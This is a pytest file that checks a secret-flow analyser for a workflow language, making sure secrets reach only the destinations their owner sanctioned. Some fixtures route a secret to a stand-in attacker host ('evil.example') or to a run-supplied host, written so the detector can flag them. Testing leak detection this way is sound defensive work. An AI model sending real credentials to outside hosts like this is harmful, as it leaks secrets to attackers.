"""Where secrets may go: what their owner wrote, and every way around it."""

from __future__ import annotations

import pytest

from tests.check.judging import Case, assert_found, judged

PERMITS = (
    "permits: { exec: true, net: { http: ['*'] }, fs: { write: ['**'] }, tools: ['nika:*', 'mcp:*/*'] }\n"
)


def secret(egress: str, tasks: str, more: str = "") -> str:
    rules = f", egress: [{egress}]" if egress else ""
    return (
        f"nika: s\nmodel: mock/echo\n{PERMITS}"
        f"secrets: {{ key: {{ source: env, key: KEY{rules} }}, other: {{ source: env, key: OTHER }} }}\n"
        f"const: {{ host: api.example.com }}\ninputs: {{ path: {{ type: string }} }}\ntasks:\n{tasks}{more}"
    )


def fetch(url: str, header: str = "${{ secrets.key }}") -> str:
    args = f"{{ url: '{url}', headers: {{ k: '{header}' }} }}"
    return f"  t: {{ invoke: {{ tool: 'nika:fetch', args: {args} }} }}\n"


ECHO = "  t: { exec: { command: [echo, '${{ «secrets.key» }}'] } }\n"
PASSED = "  a: { exec: { command: [a, '${{ secrets.key }}'] } }\n  t:\n    with: { x: '${{ tasks.a.%s }}' }\n"
TO_API = "{ to: 'nika:fetch', host: API.example.com }"

CASES = [
    Case("a program", secret("", ECHO), ("SEC-006",), 'egress: [{ to: "exec" }]', "secrets.key → exec"),
    Case("a program, sanctioned", secret("{ to: exec }", ECHO.replace("«", "").replace("»", ""))),
    Case(
        "a sanction is for one place",
        secret("{ to: infer }", ECHO),
        ("SEC-006",),
        'egress: [{ to: "infer" }, { to: "exec" }]',
    ),
    Case(
        "an environment",
        secret("", "  t: { exec: { command: [a], env: { K: '${{ «secrets.key» }}' } } }\n"),
        ("SEC-006",),
    ),
    Case(
        "a standard input",
        secret("", "  t: { exec: { command: [a], stdin: '${{ «secrets.key» }}' } }\n"),
        ("SEC-006",),
    ),
    Case(
        "a prompt",
        secret("", "  t: { infer: { prompt: '${{ «secrets.key» }}' } }\n"),
        ("SEC-006",),
        'to: "infer"',
    ),
    Case(
        "a system prompt",
        secret("", "  t: { agent: { prompt: hi, system: '${{ «secrets.key» }}' } }\n"),
        ("SEC-006",),
        'to: "agent"',
    ),
    Case(
        "a log",
        secret("", "  t: { invoke: { tool: 'nika:log', args: { message: '${{ «secrets.key» }}' } } }\n"),
        ("SEC-006",),
        'to: "nika:log"',
    ),
    Case(
        "a server",
        secret("", "  t: { invoke: { tool: 'mcp:db/query', args: { k: '${{ «secrets.key» }}' } } }\n"),
        ("SEC-006",),
        'to: "mcp:db/query"',
    ),
    Case(
        "a workflow that is called",
        secret(
            "",
            "  t: { invoke: { workflow: 'registry:a/b@1', args: { k: '${{ «secrets.key» }}' } } }\n",
        ),
        ("SEC-006",),
        "in the workflow that is called",
    ),
    Case(
        "through a binding",
        secret(
            "",
            "  t:\n    with: { tok: '${{ secrets.key }}' }\n    exec: { command: [a, "
            "'${{ «with.tok» }}'] }\n",
        ),
        ("SEC-006",),
        says="secrets.key → with.tok → exec",
    ),
    Case(
        "through a program",
        secret("{ to: exec }", PASSED % "output" + "    infer: { prompt: '${{ «with.x» }}' }\n"),
        ("SEC-006",),
        says="secrets.key → tasks.a.output → with.x → infer",
    ),
    Case(
        "through an extracted part",
        secret(
            "{ to: exec }",
            PASSED.replace("  t:", "    extract: { p: . }\n  t:").replace(
                "  a: { exec: { command: [a, '${{ secrets.key }}'] } }",
                "  a:\n    exec: { command: [a, '${{ secrets.key }}'] }",
            )
            % "p"
            + "    infer: { prompt: '${{ «with.x» }}' }\n",
        ),
        ("SEC-006",),
    ),
    Case(
        "a status carries nothing",
        secret("{ to: exec }", PASSED % "status" + "    infer: { prompt: '${{ with.x }}' }\n"),
    ),
    Case(
        "a model's reply is no echo",
        secret(
            "{ to: infer }",
            "  a: { infer: { prompt: '${{ secrets.key }}' } }\n  t:\n    with: { x: "
            "'${{ tasks.a.output }}' }\n    exec: { command: [a, '${{ with.x }}'] }\n",
        ),
    ),
    Case(
        "through an element",
        secret(
            "",
            "  t:\n    for_each: { items: ['${{ secrets.key }}'] }\n    exec: { command: [a, "
            "'${{ «item» }}'] }\n",
        ),
        ("SEC-006",),
        says="secrets.key → item → exec",
    ),
    Case(
        "through a bound element",
        secret(
            "",
            "  t:\n    with: { rows: ['${{ secrets.key }}'], one: '${{ item }}' }\n"
            "    for_each: { items: '${{ with.rows }}' }\n    exec: { command: [a, "
            "'${{ «with.one» }}'] }\n",
        ),
        ("SEC-006",),
    ),
    Case(
        "through a group",
        secret(
            "{ to: exec }",
            "  a: { group: g, exec: { command: [a, '${{ secrets.key }}'] } }\n  t:\n"
            "    with: { x: '${{ group.g }}' }\n    infer: { prompt: '${{ «with.x» }}' }\n",
        ),
        ("SEC-006",),
    ),
    *(
        Case(
            f"through what it said as it failed: {field}",
            secret("{ to: exec }", PASSED % field + "    infer: { prompt: '${{ «with.x» }}' }\n"),
            ("SEC-006",),
            says="secrets.key → tasks.a.error → with.x → infer",
        )
        for field in ("error", "error.message", "error.details.stderr")
    ),
    Case(
        "how it failed, by the engine's own words",
        secret("{ to: exec }", PASSED % "error.code" + "    infer: { prompt: '${{ with.x }}' }\n"),
    ),
    Case(
        "the failure of a task that was given none",
        secret(
            "{ to: exec }",
            PASSED % "error" + "    infer: { prompt: '${{ with.x }}' }\n",
        ).replace("[a, '${{ secrets.key }}']", "[a]"),
    ),
    Case(
        "out of the run in an error",
        secret("{ to: exec }", "  a: { exec: { command: [a, '${{ secrets.key }}'] } }\n")
        + "outputs: { o: '${{ «tasks.a.error.message» }}' }\n",
        ("SEC-007",),
    ),
    Case(
        "in an error, to a cleanup",
        secret(
            "{ to: exec }",
            (PASSED % "error").replace("    with", "    after: { a: unwind }\n    with")
            + "    infer: { prompt: '${{ «with.x» }}' }\n",
        ),
        ("SEC-006",),
    ),
    Case(
        "through a fallback that comes later",
        secret(
            "{ to: exec }",
            "  a: { exec: { command: [a] }, on_error: { recover: "
            "'${{ tasks.z.output }}' } }\n  t:\n    with: { x: '${{ tasks.a.output }}' }\n"
            "    infer: { prompt: '${{ «with.x» }}' }\n  z: { exec: { command: [a, "
            "'${{ secrets.key }}'] } }\n",
        ),
        ("SEC-006",),
    ),
    Case("to its host", secret(TO_API, fetch("https://api.example.com/x"))),
    Case("to its host, by a constant", secret(TO_API, fetch("https://${{ const.host }}/${{ inputs.path }}"))),
    Case(
        "to another host",
        secret(TO_API, fetch("https://evil.example/x", "${{ «secrets.key» }}")),
        ("SEC-006",),
        'host: "evil.example" }]',
        "to `API.example.com` only",
    ),
    Case(
        "to a host that only the run knows",
        secret(TO_API, fetch("https://${{ inputs.path }}/x", "${{ «secrets.key» }}")),
        ("SEC-006",),
    ),
    Case("to any host", secret("{ to: 'nika:fetch' }", fetch("https://${{ inputs.path }}/x"))),
    Case(
        "as the whole address",
        secret(
            "{ to: 'nika:notify', host_from_self: true }",
            "  t: { invoke: { tool: 'nika:notify', args: { target: '${{ secrets.key }}', message: hi } } }\n",
        ),
    ),
    Case(
        "as the whole address, through a binding",
        secret(
            "{ to: 'nika:notify', host_from_self: true }",
            "  t:\n    with: { u: '${{ secrets.key }}' }\n    invoke: { tool: 'nika:notify', "
            "args: { target: '${{ with.u }}', message: hi } }\n",
        ),
    ),
    Case(
        "as a part of the address",
        secret(
            "{ to: 'nika:fetch', host_from_self: true }",
            "  t: { invoke: { tool: 'nika:fetch', args: { url: "
            "'https://a.example/${{ «secrets.key» }}' } } }\n",
        ),
        ("SEC-006",),
        says="the whole address",
    ),
    Case(
        "as the whole address beside another secret",
        secret(
            "{ to: 'nika:notify', host_from_self: true }",
            "  t: { invoke: { tool: 'nika:notify', args: { target: '${{ «secrets.key» }}', "
            "message: '${{ «secrets.other» }}' } } }\n",
        ),
        ("SEC-006", "SEC-006"),
    ),
    Case(
        "an output",
        secret("", "  t: { infer: { prompt: hi } }\n", "outputs: { x: '${{ «secrets.key» }}' }\n"),
        ("SEC-007",),
        'egress: [{ to: "outputs" }]',
    ),
    Case(
        "an output behind a program",
        secret(
            "{ to: exec }",
            "  a: { exec: { command: [a, '${{ secrets.key }}'] } }\n",
            "outputs: { x: '${{ «tasks.a.output» }}' }\n",
        ),
        ("SEC-007",),
        'egress: [{ to: "exec" }, { to: "outputs" }]',
        "secrets.key → tasks.a.output → outputs.x",
    ),
    Case(
        "an output, sanctioned",
        secret(
            "{ to: exec }, { to: outputs }",
            "  a: { exec: { command: [a, '${{ secrets.key }}'] } }\n",
            "outputs: { x: '${{ tasks.a.output }}' }\n",
        ),
    ),
    Case(
        "a key that signs",
        secret(
            "",
            "  t: { invoke: { tool: 'nika:hash', args: { op: sign, content: x, key: "
            "'${{ secrets.key }}' } } }\n",
            "outputs: { x: '${{ tasks.t.output }}' }\n",
        ),
    ),
    Case(
        "a secret that is signed",
        secret("", "  t: { invoke: { tool: 'nika:hash', args: { content: '${{ «secrets.key» }}' } } }\n"),
        ("SEC-006",),
    ),
]


@pytest.mark.parametrize("case", CASES, ids=str)
def test_a_secret_goes_only_where_its_owner_lets_it(case: Case) -> None:
    """Every unsanctioned flow is found where it ends, with its whole path and the clause to paste."""
    assert_found(case)


def test_reading_all_secrets_is_reading_each() -> None:
    """A computed name could be any secret, so every one of them arrives."""
    report = judged(secret("", "  t: { exec: { command: [a, '${{ secrets[inputs.path] }}'] } }\n"))
    assert [error.message.split("`")[1] for error in report.errors] == ["secrets.key", "secrets.other"]


def test_a_finding_never_shows_more_than_names() -> None:
    """A diagnostic of a leak names the secret and where it is declared."""
    report = judged(secret("", ECHO))
    (error,) = report.errors
    assert error.task == "t"
    assert [text for text, _ in error.related] == ["`key` is declared here"]
